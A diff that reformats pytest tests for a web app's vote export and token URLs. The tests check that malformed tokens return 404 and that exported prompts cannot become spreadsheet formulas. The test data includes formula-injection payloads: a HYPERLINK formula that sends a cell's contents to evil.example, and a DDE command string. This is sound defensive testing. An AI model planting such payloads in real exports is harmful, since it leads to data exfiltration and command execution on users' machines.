@@ -21,12 +21,22 @@ def small_images(demo_arena: Any) -> None:
     Arena.objects.update(width=64, height=64)
 
 
-@pytest.mark.parametrize("path", [
-    "/s/%00", "/s/a%00b", "/s/%00/left", "/s/x%00/right", "/o/%00", "/o/a%00b",
-    "/s/" + "a" * 300, "/o/" + "a" * 300, "/s/%ff%fe", "/o/%C3%A9",
-])
-def test_a_hostile_token_is_a_404_never_a_500(voter: Any, run_on_commit: Any,
-                                              path: str) -> None:
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/s/%00",
+        "/s/a%00b",
+        "/s/%00/left",
+        "/s/x%00/right",
+        "/o/%00",
+        "/o/a%00b",
+        "/s/" + "a" * 300,
+        "/o/" + "a" * 300,
+        "/s/%ff%fe",
+        "/o/%C3%A9",
+    ],
+)
+def test_a_hostile_token_is_a_404_never_a_500(voter: Any, run_on_commit: Any, path: str) -> None:
     """A scraper probing token URLs with a NUL byte (PostgreSQL refuses it in a query) or any
     other odd token gets the 404 of a missing link, not a server error."""
     battle = voted_battle(voter, run_on_commit)
@@ -35,10 +45,17 @@ def test_a_hostile_token_is_a_404_never_a_500(voter: Any, run_on_commit: Any,
     assert client.get(path).status_code == 404
 
 
-@pytest.mark.parametrize("prompt", [
-    '=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3",
-    "@SUM(1+1)", "\t=1+1", "\r=1+1",
-])
+@pytest.mark.parametrize(
+    "prompt",
+    [
+        '=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
 def test_a_published_prompt_cannot_become_a_spreadsheet_formula(
     voter: Any, run_on_commit: Any, settings: Any, prompt: str
 ) -> None:
@@ -56,13 +73,15 @@ def test_a_published_prompt_cannot_become_a_spreadsheet_formula(
     assert json.loads(jsonl)["prompt"] == prompt.strip()
 
 
-def test_a_plain_prompt_is_exported_unchanged(voter: Any, run_on_commit: Any,
-                                              settings: Any) -> None:
+def test_a_plain_prompt_is_exported_unchanged(
+    voter: Any, run_on_commit: Any, settings: Any
+) -> None:
     settings.ARENA_EXPORT_PROMPTS = True
     voted_battle(voter, run_on_commit, "a harbour at dawn, 3 boats")
     text = body_of(voter.get(f"{ARENA}/votes?format=csv")).decode()
     assert [r["prompt"] for r in csv.DictReader(io.StringIO(text))] == [
-        "a harbour at dawn, 3 boats"]
+        "a harbour at dawn, 3 boats"
+    ]
 
 
 def test_turning_export_prompts_on_does_not_publish_prompts_typed_under_the_privacy_promise(
@@ -79,8 +98,11 @@ def test_turning_export_prompts_on_does_not_publish_prompts_typed_under_the_priv
 
     for fmt in ("jsonl", "csv"):
         text = body_of(voter.get(f"{ARENA}/votes?format={fmt}")).decode()
-        rows = ([json.loads(line) for line in text.splitlines()] if fmt == "jsonl"
-                else list(csv.DictReader(io.StringIO(text))))
+        rows = (
+            [json.loads(line) for line in text.splitlines()]
+            if fmt == "jsonl"
+            else list(csv.DictReader(io.StringIO(text)))
+        )
         assert [r["prompt"] for r in rows] == ["", "a public lighthouse"]
         assert "my private diary entry" not in text
 
@@ -120,5 +142,8 @@ def test_a_page_opened_under_the_privacy_promise_keeps_it_after_the_setting_chan
 
     text = body_of(stale.get(f"{ARENA}/votes?format=jsonl")).decode()
     assert [json.loads(line)["prompt"] for line in text.splitlines()] == [
-        "", "typed after the warning", "an api client's prompt"]
+        "",
+        "typed after the warning",
+        "an api client's prompt",
+    ]
     assert "typed in the old tab" not in text
